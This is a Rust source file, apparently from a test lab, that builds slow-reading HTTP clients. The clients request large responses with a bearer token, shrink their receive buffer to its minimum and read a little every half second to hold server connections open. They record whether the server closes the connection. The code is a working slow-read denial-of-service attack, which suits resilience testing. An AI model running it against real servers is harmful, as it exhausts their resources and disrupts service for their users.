//! Clients that request large responses and barely read them.

use std::net::{IpAddr, SocketAddr};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

use super::client::ANSWER_TIME_MAX;
use super::lab::Running;
use crate::Outcome;

/// The kernel rounds it up to its minimum: the response has to wait in the server.
const RECEIVE_BUFFER_BYTES: u32 = 1;
const READ_PAUSE: Duration = Duration::from_millis(500);
const READ_BYTES: usize = 256;

/// Requests that are sent as they are, with the address of the server and that of the client.
#[derive(Debug, Clone)]
pub(super) struct SlowReader {
    pub(super) server: String,
    pub(super) from: IpAddr,
    pub(super) request: String,
}

impl SlowReader {
    /// The request of a client with a bearer token.
    pub(super) fn new(server: &str, from: IpAddr, (method, path, token): (&str, &str, &str), body: &str) -> SlowReader {
        let request = format!(
            "{method} {path} HTTP/1.1\r\nhost: {server}\r\nauthorization: Bearer {token}\r\n\
             content-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
            body.len()
        );
        SlowReader { server: server.to_owned(), from, request }
    }

    /// Reads the response slowly until the attack ends. Starts again if the request is refused or the connection is closed.
    async fn run(self, running: Running) {
        while Instant::now() < running.until {
            if self.read(&running).await.is_err() {
                running.answers.add("none");
            }
            tokio::time::sleep(READ_PAUSE).await;
        }
    }

    /// Returns when the response or the connection has ended.
    async fn read(&self, running: &Running) -> Outcome<()> {
        let mut stream = self.connect().await?;
        stream.write_all(self.request.as_bytes()).await?;
        let mut head = [0; 12];
        tokio::time::timeout(ANSWER_TIME_MAX, stream.read_exact(&mut head)).await??;
        running.answers.add(String::from_utf8_lossy(&head[9..]));
        if !head.ends_with(b"200") {
            return Ok(());
        }
        let mut buffer = [0; READ_BYTES];
        while Instant::now() < running.until {
            tokio::time::sleep(READ_PAUSE).await;
            // A reset ends the connection as well: the server does not wait for the client any longer.
            if stream.read(&mut buffer).await.unwrap_or(0) == 0 {
                running.answers.add("closed by the server");
                return Ok(());
            }
        }
        Ok(())
    }

    async fn connect(&self) -> Outcome<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.set_recv_buffer_size(RECEIVE_BUFFER_BYTES)?;
        socket.bind(SocketAddr::new(self.from, 0))?;
        Ok(socket.connect(self.server.parse()?).await?)
    }
}

/// Runs these readers until the attack ends.
pub(super) async fn read_slowly(running: &Running, readers: impl IntoIterator<Item = SlowReader>) -> Outcome<()> {
    let tasks: Vec<_> = readers.into_iter().map(|reader| tokio::spawn(reader.run(running.clone()))).collect();
    for task in tasks {
        task.await?;
    }
    Ok(())
}
